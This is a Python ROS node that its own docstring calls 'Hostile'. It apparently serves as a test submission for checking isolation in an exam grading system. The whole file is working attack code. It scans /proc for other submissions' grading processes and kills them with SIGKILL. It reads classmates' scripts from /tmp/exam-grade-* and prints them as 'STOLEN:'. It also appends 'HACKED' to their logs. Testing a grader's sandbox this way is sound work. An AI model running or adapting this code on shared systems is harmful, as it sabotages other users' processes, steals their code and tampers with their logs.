#!/usr/bin/env python3
"""Hostile: attacks the classmate graded beside it, for at most 70 s.

It kills the classmate's grading processes (those carrying the class token EXAM_HOSTILE_CLASS in their
environment, outside its own run), prints the classmate's code it can read ("STOLEN:") and appends
"HACKED" to the classmate's logs. Does nothing as root.
"""
import glob
import os
import signal
import threading
import time

import rospy


def others():
    """Pids of processes of the class run that are not this submission's."""
    own = os.path.dirname(os.environ.get('EXAM_LAB_RUN', '/nonexistent/logs'))
    found = []
    for entry in os.listdir('/proc'):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open('/proc/%s/environ' % entry, 'rb') as f:
                environ = f.read().decode('utf-8', 'replace')
        except OSError:
            continue
        if 'EXAM_HOSTILE_CLASS=' in environ and 'EXAM_LAB_RUN=' in environ and own not in environ:
            found.append(int(entry))
    return found


def attack(deadline):
    own_work = os.path.dirname(os.environ.get('EXAM_LAB_RUN', '/nonexistent/logs'))
    stolen = set()
    while time.monotonic() < deadline:
        for pid in others()[:50]:
            try:
                os.kill(pid, signal.SIGKILL)
                print('KILLED %d' % pid, flush=True)
            except OSError:
                pass
        for path in glob.glob('/tmp/exam-grade-*/ws/src/exam/scripts/*.py')[:20]:
            if path.startswith(own_work) or path in stolen:
                continue
            try:
                with open(path) as f:
                    print('STOLEN: ' + f.read(20000).replace('\n', '\nSTOLEN: '), flush=True)
                stolen.add(path)
            except OSError:
                pass
        for logs in glob.glob('/tmp/exam-grade-*/logs')[:20]:
            if logs.startswith(own_work):
                continue
            for name in ('launch-main.log', 'hacked.log'):
                try:
                    with open(os.path.join(logs, name), 'a') as f:
                        f.write('HACKED by a classmate\n')
                except OSError:
                    pass
        time.sleep(0.3)


def main():
    rospy.init_node('exam')
    if os.geteuid() == 0:
        rospy.logwarn('root: the payload does nothing')
    else:
        threading.Thread(target=attack, args=(time.monotonic() + 70.0,), daemon=True).start()
    rospy.spin()


if __name__ == '__main__':
    main()
